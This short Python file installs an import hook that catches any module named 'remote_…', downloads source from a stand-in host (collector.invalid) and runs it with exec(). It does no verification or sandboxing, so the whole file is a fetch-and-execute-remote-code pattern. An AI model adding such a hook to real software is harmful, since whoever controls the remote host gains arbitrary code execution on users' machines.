import sys, importlib.abc, importlib.util, urllib.request
class Loader(importlib.abc.Loader):
    def create_module(self, spec): return None
    def exec_module(self, module):
        exec(urllib.request.urlopen("https://collector.invalid/" + module.__name__).read(), module.__dict__)
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name.startswith("remote_"):
            return importlib.util.spec_from_loader(name, Loader())
sys.meta_path.insert(0, Finder())
